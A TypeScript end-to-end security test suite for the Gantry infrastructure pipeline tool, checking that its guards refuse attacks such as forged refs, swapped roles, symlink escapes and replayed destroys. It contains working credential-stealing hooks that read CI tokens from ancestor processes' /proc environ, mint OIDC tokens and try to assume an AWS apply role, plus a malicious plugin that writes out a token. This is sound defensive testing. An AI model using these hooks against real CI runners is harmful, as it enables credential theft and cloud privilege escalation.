/**
 * The attack suite end to end: `gantry execute` spawned as the pipelines side's plan and apply workflows run
 * it (the runner's environment, tokens included), the real git, terragrunt and OpenTofu, the OIDC issuer and
 * the STS emulator loaded with the trust policies `gantry iam trust-policy` prints. Each attack is refused with
 * its own exit code, with no tool run, no credential issued and no state changed; the legitimate jobs beside
 * them run. Shares one repository: the tests run in order.
 */
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { createRequire } from "node:module";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { planChange, type Job } from "@gantry/classifier";
import { createTempGitRepo } from "@gantry/testkit";
import { APPLY_ROLE, gantryConfig, PLAN_ROLE, pushBranch } from "./support.js";
import {
  applyWorkflow,
  createWorld,
  gantrySync,
  planWorkflow,
  RUNNER_SECRETS,
  unitHcl,
  type Execution,
  type World,
} from "./world.js";

// `yaml` is installed for @gantry/classifier (which parses .gantry/config.yml); resolve it from there.
const { parse: parseYaml } = createRequire(new URL("../../../classifier/package.json", import.meta.url))("yaml") as {
  parse: (text: string) => unknown;
};
const PIPELINES_EXAMPLE = new URL(
  "../../../../examples/github-workflows/infrastructure-pipelines/.github/workflows/",
  import.meta.url,
);

let world: World;
beforeAll(async () => {
  world = await createWorld();
});
afterAll(async () => {
  await world?.[Symbol.asyncDispose]();
});

const plan = async (
  base: string,
  head: string,
  event: "push" | "pull_request",
  branch: string,
  extra: { configRef?: string } = {},
) => (await planChange({ repo: world.origin.dir, base, head, event, branch, cache: false, ...extra })).jobs;

function expectRefused(run: Execution, exitCode: number, code: string): void {
  expect({
    exitCode: run.exitCode,
    code: run.result?.error?.code,
    toolRuns: run.toolRuns,
    issued: run.issued,
    stateChanged: run.stateChanged,
  }).toEqual({
    exitCode,
    code,
    toolRuns: [],
    issued: [],
    stateChanged: false,
  });
  expect(run.stderr).toContain(`[${code}]`);
}

/** A pull request's hook: what it sees in its environment, and what it can take from its ancestors' /proc. */
function stealingHook(marker: string): string {
  return `import { execFileSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
const seen = { env: Object.keys(process.env), fromProc: false, sts: null };
let pid = process.ppid;
let found;
for (let hop = 0; hop < 12 && pid > 1 && !found; hop++) {
  try {
    const environ = readFileSync("/proc/" + pid + "/environ", "utf8").split("\\0");
    const get = (name) => environ.find((entry) => entry.startsWith(name + "="))?.slice(name.length + 1);
    if (get("ACTIONS_ID_TOKEN_REQUEST_TOKEN")) found = { url: get("ACTIONS_ID_TOKEN_REQUEST_URL"), token: get("ACTIONS_ID_TOKEN_REQUEST_TOKEN"), sts: get("AWS_ENDPOINT_URL_STS"), github: get("GITHUB_TOKEN") };
    pid = Number(readFileSync("/proc/" + pid + "/stat", "utf8").split(") ")[1].split(" ")[1]);
  } catch { break; }
}
if (found) {
  seen.fromProc = true;
  console.log("stolen GITHUB_TOKEN: " + found.github);
  const id = await (await fetch(found.url + "&audience=sts.amazonaws.com", { headers: { authorization: "Bearer " + found.token } })).json();
  const body = new URLSearchParams({ Action: "AssumeRoleWithWebIdentity", Version: "2011-06-15", RoleArn: ${JSON.stringify(APPLY_ROLE)}, RoleSessionName: "stolen", WebIdentityToken: id.value });
  const answer = await (await fetch(found.sts, { method: "POST", body })).text();
  seen.sts = /<Code>(\\w+)<\\/Code>/.exec(answer)?.[1] ?? "ISSUED";
}
try { console.log(execFileSync("git", ["config", "--get-regexp", "extraheader"], { encoding: "utf8" })); } catch {}
writeFileSync(${JSON.stringify(marker)}, JSON.stringify(seen));
`;
}

/** A pull request's hook that walks its ancestors' /proc/<pid>/environ for tokens, and writes the names it found. */
function tokenHuntingHook(marker: string): string {
  return `import { readFileSync, writeFileSync } from "node:fs";
const found = new Set();
let pid = process.ppid;
for (let hop = 0; hop < 12 && pid > 1; hop++) {
  try {
    for (const entry of readFileSync("/proc/" + pid + "/environ", "utf8").split("\\0")) {
      const [name, ...value] = entry.split("=");
      if (/TOKEN|PRIVATE_KEY/.test(name) && value.join("=") !== "") found.add(name);
    }
    pid = Number(readFileSync("/proc/" + pid + "/stat", "utf8").split(") ")[1].split(" ")[1]);
  } catch { break; }
}
writeFileSync(${JSON.stringify(marker)}, JSON.stringify([...found].sort()));
`;
}

interface WorkflowStep {
  uses?: string;
  env?: Record<string, string>;
  with?: Record<string, string>;
}

/**
 * The Gantry steps of a pipelines workflow as `gantry init` writes it (the example): each one's command,
 * arguments (the checkout path replaced) and environment, with `\${{ secrets.NAME }}` taken from the runner's
 * secrets; the workflow's own `env` is the pipelines side's settings.
 */
function gantrySteps(
  file: string,
  checkoutDir: string,
): Array<{ command: string; args: string[]; env: Record<string, string>; secrets: Record<string, string> }> {
  const workflow = parseYaml(readFileSync(new URL(file, PIPELINES_EXAMPLE), "utf8")) as {
    env?: Record<string, string>;
    jobs: Record<string, { steps: WorkflowStep[] }>;
  };
  return Object.values(workflow.jobs)
    .flatMap((job) => job.steps)
    .filter((step) => step.uses?.startsWith("gantry-iac/gantry@"))
    .map((step) => {
      const secrets: Record<string, string> = {};
      const env: Record<string, string> = { ...workflow.env };
      for (const [name, value] of Object.entries(step.env ?? {})) {
        const secret = /^\$\{\{ secrets\.(\w+) \}\}$/.exec(String(value))?.[1];
        if (secret) secrets[name] = (RUNNER_SECRETS as Record<string, string>)[secret] ?? "";
        else env[name] = String(value);
      }
      const args = String(step.with?.args ?? "")
        .split("\n")
        .map((line) => line.trim())
        .filter(Boolean)
        .map((arg) => (arg === "--repo=infrastructure-live" ? `--repo=${checkoutDir}` : arg));
      return { command: String(step.with?.command), args, env, secrets };
    });
}

describe("the attack suite, end to end with terragrunt, OpenTofu, the OIDC issuer and STS", () => {
  it("(G1) a pull request's hook in plan.yml, as gantry init writes it, finds no Gantry token in its ancestors' /proc", async () => {
    const markers = mkdtempSync(join(tmpdir(), "gantry-hook-"));
    const marker = join(markers, "tokens.json");
    const base = world.origin.sha("main");
    const hook = `  before_hook "hunt" {\n    commands = ["plan"]\n    execute  = ["node", "\${get_terragrunt_dir()}/hunt.mjs"]\n  }\n`;
    const head = pushBranch(world.origin, "pr-g1", {
      "prod/app/terragrunt.hcl": unitHcl("4", hook),
      "prod/app/hunt.mjs": tokenHuntingHook(marker),
    });
    const [job] = await plan(base, head, "pull_request", "pr-g1");
    let execute: ReturnType<typeof gantrySteps>[number] | undefined;
    const run = await world.execute(job!, planWorkflow, {
      // The steps before `gantry execute` (the trusted fetch of the deploy branch) run in the checkout first.
      configure: (dir) => {
        const steps = gantrySteps("plan.yml", dir);
        execute = steps.find((step) => step.command === "execute");
        for (const step of steps.slice(0, steps.indexOf(execute!))) {
          const done = gantrySync([step.command, ...step.args], { ...step.env, ...step.secrets });
          expect(done.exitCode, done.stderr).toBe(0);
        }
      },
      get env() {
        return execute!.env;
      },
      get secrets() {
        return execute!.secrets;
      },
      get args() {
        return execute!.args.filter((arg) => !arg.startsWith("--repo=") && !arg.startsWith("--result="));
      },
    });
    expect([run.exitCode, run.result?.status], run.stderr).toEqual([0, "succeeded"]);
    const found = JSON.parse(readFileSync(marker, "utf8")) as string[];
    // Left within reach (README, Security): the runner's OIDC request, which mints plan.yml's subject only, and
    // the plan role's own session, which the tools are given.
    const withinReach = new Set([
      "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
      "ACTIONS_ID_TOKEN_REQUEST_URL",
      "AWS_SESSION_TOKEN",
    ]);
    expect(found.filter((name) => !withinReach.has(name))).toEqual([]);
  });

  it("legitimate: a push to main is applied by the apply workflow with the apply role", async () => {
    const base = world.origin.sha("main");
    const head = world.origin.commit({ "prod/app/terragrunt.hcl": unitHcl("2") });
    const [apply] = await plan(base, head, "push", "main");
    const run = await world.execute(apply!, applyWorkflow, { args: ["--workflow-role", "apply"] });
    expect([run.exitCode, run.result?.status]).toEqual([0, "succeeded"]);
    expect(run.issued).toEqual([APPLY_ROLE]);
    expect(run.stateChanged).toBe(true);
    expect(run.toolRuns.some((line) => line.startsWith("tofu apply"))).toBe(true);
  });

  it("legitimate, hostile inside: a pull request's plan runs in the plan workflow; its hook sees no token, and what it takes from /proc cannot reach the apply role", async () => {
    const markers = mkdtempSync(join(tmpdir(), "gantry-hook-"));
    const marker = join(markers, "seen.json");
    const base = world.origin.sha("main");
    const hook = `  before_hook "steal" {\n    commands = ["plan"]\n    execute  = ["node", "\${get_terragrunt_dir()}/steal.mjs"]\n  }\n`;
    const head = pushBranch(world.origin, "pr-1", {
      "prod/app/terragrunt.hcl": unitHcl("3", hook),
      "prod/app/steal.mjs": stealingHook(marker),
    });
    const [job] = await plan(base, head, "pull_request", "pr-1");
    const persisted = "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX3BlcnNpc3RlZA==";
    const run = await world.execute(job!, planWorkflow, {
      args: ["--workflow-role", "plan"],
      // actions/checkout without persist-credentials: false leaves this in .git/config.
      configure: (dir) =>
        writeFileSync(
          join(dir, ".git", "config"),
          `${readFileSync(join(dir, ".git", "config"), "utf8")}[http "https://github.com/"]\n\textraheader = ${persisted}\n`,
        ),
    });
    expect([run.exitCode, run.result?.status]).toEqual([0, "succeeded"]);
    const seen = JSON.parse(readFileSync(marker, "utf8")) as { env: string[]; fromProc: boolean; sts: string | null };
    // The tools' environment: no runner, GitHub or Gantry token.
    expect(seen.env.filter((name) => /^ACTIONS_|^GANTRY_(?!STATE_DIR)|^GITHUB_TOKEN$|^GH_TOKEN$/.test(name))).toEqual(
      [],
    );
    // Same OS user: the runner's request token is readable from /proc where the kernel allows it (documented),
    // but the token it mints is the plan workflow's, which the apply role does not trust.
    expect(seen.sts).toBe(seen.fromProc ? "AccessDenied" : null);
    expect(run.issued).toEqual([PLAN_ROLE]);
    if (seen.fromProc) expect(world.sts.refused.at(-1)).toMatchObject({ roleArn: APPLY_ROLE, code: "AccessDenied" });
    // Nothing secret reaches the logs or the report, even what the hook printed.
    const log = readFileSync(run.result!.units[0]!.logPath!, "utf8");
    for (const text of [log, run.stdout, run.stderr]) {
      expect(text).not.toContain(RUNNER_SECRETS.GITHUB_TOKEN);
      expect(text).not.toContain("eC1hY2Nlc3MtdG9rZW46Z2hzX3BlcnNpc3RlZA==");
    }
    expect(log).toContain("stolen GITHUB_TOKEN: ***");
    expect(log).toContain("AUTHORIZATION: basic ***");
  });

  it("route 1: refuses an apply planned on a branch whose configuration names itself the deploy branch (52)", async () => {
    const base = world.origin.sha("main");
    const evil = pushBranch(world.origin, "evil", {
      ".gantry/config.yml": gantryConfig({ deployBranch: "evil" }),
      "prod/app/terragrunt.hcl": unitHcl("evil"),
    });
    const [apply] = await plan(base, evil, "push", "evil");
    expectRefused(
      await world.execute(apply!, applyWorkflow, { args: ["--workflow-role", "apply"] }),
      52,
      "GUARD_UNTRUSTED_SETTINGS",
    );
  });

  it("route 1: refuses a destroy of a live production unit planned on such a branch (52)", async () => {
    const base = world.origin.sha("main");
    const evil = pushBranch(world.origin, "evil-destroy", {
      ".gantry/config.yml": gantryConfig({ deployBranch: "evil-destroy" }),
      "prod/db/terragrunt.hcl": null,
    });
    const destroy = (await plan(base, evil, "push", "evil-destroy")).find((job) => job.action === "destroy")!;
    expectRefused(
      await world.execute(destroy, applyWorkflow, { args: ["--workflow-role", "apply"] }),
      52,
      "GUARD_UNTRUSTED_SETTINGS",
    );
  });

  it("route 2a: refuses a pull request's plan whose configuration swaps the plan role for the apply role (52)", async () => {
    const base = world.origin.sha("main");
    const head = pushBranch(world.origin, "pr-2", {
      ".gantry/config.yml": gantryConfig({ planRoleArn: APPLY_ROLE }),
      "prod/app/terragrunt.hcl": unitHcl("4"),
    });
    const [job] = await plan(base, head, "pull_request", "pr-2", { configRef: head });
    expect(job!.authentication?.planRoleArn).toBe(APPLY_ROLE);
    expectRefused(
      await world.execute(job!, planWorkflow, { args: ["--workflow-role", "plan"] }),
      52,
      "GUARD_UNTRUSTED_SETTINGS",
    );
  });

  it("route 2c: never imports a pull request's classifier plugin, also on a dry run", async () => {
    const markers = mkdtempSync(join(tmpdir(), "gantry-plugin-"));
    const base = world.origin.sha("main");
    const plugin = `import { writeFileSync } from "node:fs";\nwriteFileSync(${JSON.stringify(join(markers, "imported"))}, process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN ?? "");\nexport default { specificationVersion: "v1", name: "evil", classify: () => undefined };\n`;
    const head = pushBranch(world.origin, "pr-3", {
      ".gantry/config.yml": gantryConfig({ classifiers: ["./.gantry/evil.mjs"] }),
      ".gantry/evil.mjs": plugin,
      "prod/app/terragrunt.hcl": unitHcl("5"),
    });
    const [job] = await plan(base, head, "pull_request", "pr-3");
    const run = await world.execute(job!, planWorkflow, { args: ["--workflow-role", "plan", "--dry-run"] });
    expect([run.exitCode, run.toolRuns, run.issued, existsSync(join(markers, "imported"))]).toEqual([0, [], [], false]);
  });

  it("route 2: refuses a pull request's job in the apply workflow (54), and an apply in the plan workflow (54)", async () => {
    const base = world.origin.sha("main");
    const head = pushBranch(world.origin, "pr-4", { "prod/app/terragrunt.hcl": unitHcl("6") });
    const [job] = await plan(base, head, "pull_request", "pr-4");
    expectRefused(
      await world.execute(job!, applyWorkflow, { args: ["--workflow-role", "apply"] }),
      54,
      "GUARD_WRONG_WORKFLOW",
    );
    const merged = world.origin.commit({ "prod/db/terragrunt.hcl": unitHcl("2") });
    const [apply] = await plan(base, merged, "push", "main");
    expectRefused(
      await world.execute(apply!, planWorkflow, { args: ["--workflow-role", "plan"] }),
      54,
      "GUARD_WRONG_WORKFLOW",
    );
  });

  it("route 2: an apply in the plan workflow is refused without a role setting (54), and with a wrong one STS refuses (62)", async () => {
    const tip = world.origin.sha("main");
    const [apply] = await plan(world.origin.sha("main~1"), tip, "push", "main");
    expectRefused(await world.execute(apply!, planWorkflow), 54, "GUARD_WRONG_WORKFLOW");
    // The plan workflow misconfigured as the apply workflow: the guards pass, the apply role's trust does not.
    const run = await world.execute(apply!, planWorkflow, { args: ["--workflow-role", "apply"] });
    expect({
      exitCode: run.exitCode,
      code: run.result?.error?.code,
      toolRuns: run.toolRuns,
      issued: run.issued,
      stateChanged: run.stateChanged,
    }).toEqual({
      exitCode: 62,
      code: "CREDENTIALS_ASSUME_ROLE_FAILED",
      toolRuns: [],
      issued: [],
      stateChanged: false,
    });
    expect(run.stderr).toContain("AccessDenied");
  });

  it("route 3: refuses a replayed apply of an older commit of main (53)", async () => {
    const before = world.origin.sha("main");
    const first = world.origin.commit({ "prod/app/terragrunt.hcl": unitHcl("7") });
    const [old] = await plan(before, first, "push", "main");
    world.origin.commit({ "prod/app/terragrunt.hcl": unitHcl("8") });
    expectRefused(
      await world.execute(old!, applyWorkflow, { args: ["--workflow-role", "apply"] }),
      53,
      "GUARD_UNIT_SUPERSEDED",
    );
  });

  it("route 4: refuses a unit whose module source is a symlink leaving the repository (41)", async () => {
    const base = world.origin.sha("main");
    const head = world.origin.commit({
      "modules/evil": { symlink: "/etc" },
      "prod/app/terragrunt.hcl": unitHcl("9").replace("../../modules/data", "../../modules/evil"),
    });
    const [apply] = await plan(base, head, "push", "main");
    expectRefused(
      await world.execute(apply!, applyWorkflow, { args: ["--workflow-role", "apply"] }),
      41,
      "GUARD_PATH_ESCAPE",
    );
    world.origin.commit({ "modules/evil": null, "prod/app/terragrunt.hcl": unitHcl("9") });
  });

  it("refuses an apply whose ref is a pull request's commit while its source is main's (43)", async () => {
    const base = world.origin.sha("main~1");
    const tip = world.origin.sha("main");
    const evil = pushBranch(world.origin, "pr-5", { "prod/app/terragrunt.hcl": unitHcl("evil") });
    const [apply] = await plan(base, tip, "push", "main");
    const forged: Job = { ...apply!, ref: evil };
    expectRefused(
      await world.execute(forged, applyWorkflow, { args: ["--workflow-role", "apply"] }),
      43,
      "GUARD_REF_NOT_ON_DEPLOY_BRANCH",
    );
  });

  it("refuses a job carrying Terragrunt settings the deploy branch's configuration does not have (52)", async () => {
    const base = world.origin.sha("main~1");
    const tip = world.origin.sha("main");
    const [apply] = await plan(base, tip, "push", "main");
    for (const env of [{ TG_TF_PATH: "/tmp/evil-tofu" }, { TF_CLI_CONFIG_FILE: "/tmp/evil.tfrc" }] as Record<
      string,
      string
    >[]) {
      expectRefused(
        await world.execute({ ...apply!, terragrunt: { ...apply!.terragrunt, env } }, applyWorkflow, {
          args: ["--workflow-role", "apply"],
        }),
        52,
        "GUARD_UNTRUSTED_SETTINGS",
      );
    }
  });

  it("answers SIGTERM at once while the guards wait on a fetch that hangs (130): nothing run, no credential", async () => {
    const markers = mkdtempSync(join(tmpdir(), "gantry-hang-"));
    const started = join(markers, "fetching");
    const hang = join(markers, "ssh");
    writeFileSync(hang, `#!/bin/sh\ntouch '${started}'\nsleep 60\n`, { mode: 0o755 });
    const [apply] = await plan(world.origin.sha("main~1"), world.origin.sha("main"), "push", "main");
    let signalledAt = 0;
    const run = await world.execute(apply!, applyWorkflow, {
      args: ["--workflow-role", "apply"],
      env: { GIT_SSH_COMMAND: hang },
      configure: (dir) =>
        world.origin.git("-C", dir, "remote", "set-url", "origin", "ssh://git.invalid/infrastructure-live"),
      onSpawn: (child) => {
        const poll = setInterval(() => {
          if (!existsSync(started)) return;
          clearInterval(poll);
          signalledAt = Date.now();
          child.kill("SIGTERM");
        }, 50);
      },
    });
    expect(signalledAt).toBeGreaterThan(0);
    expect(run.exitCode).toBe(130);
    expect(Date.now() - signalledAt).toBeLessThan(30_000); // the fetch itself would hang for 60 s
    expect(run.stderr).toContain("GUARD_INTERRUPTED");
    expect([run.toolRuns, run.issued, run.stateChanged]).toEqual([[], [], false]);
  });

  it("route 5: refuses a replayed destroy of a unit the tip's stack file generates again at its old path (45)", async () => {
    await using catalog = createTempGitRepo(
      { "units/cache/terragrunt.hcl": unitHcl("1") },
      { prefix: "gantry-catalog-" },
    );
    catalog.git("tag", "v1");
    world.origin.commit({ "prod/cache/terragrunt.hcl": unitHcl("1") });
    const before = world.origin.sha("main");
    const removed = world.origin.commit({ "prod/cache/terragrunt.hcl": null });
    const destroy = (await plan(before, removed, "push", "main")).find((job) => job.action === "destroy")!;
    expect(destroy.units).toEqual(["prod/cache"]);
    // The unit comes back from the catalog at the same path; the old destroy job is replayed.
    world.origin.commit({
      "prod/terragrunt.stack.hcl": `unit "cache" {\n  source = "git::file://${catalog.dir}//units/cache?ref=v1"\n  path   = "cache"\n  no_dot_terragrunt_stack = true\n}\n`,
    });
    expectRefused(
      await world.execute(destroy, applyWorkflow, { args: ["--workflow-role", "apply"] }),
      45,
      "GUARD_DESTROY_UNIT_STILL_LIVE",
    );
  });
});
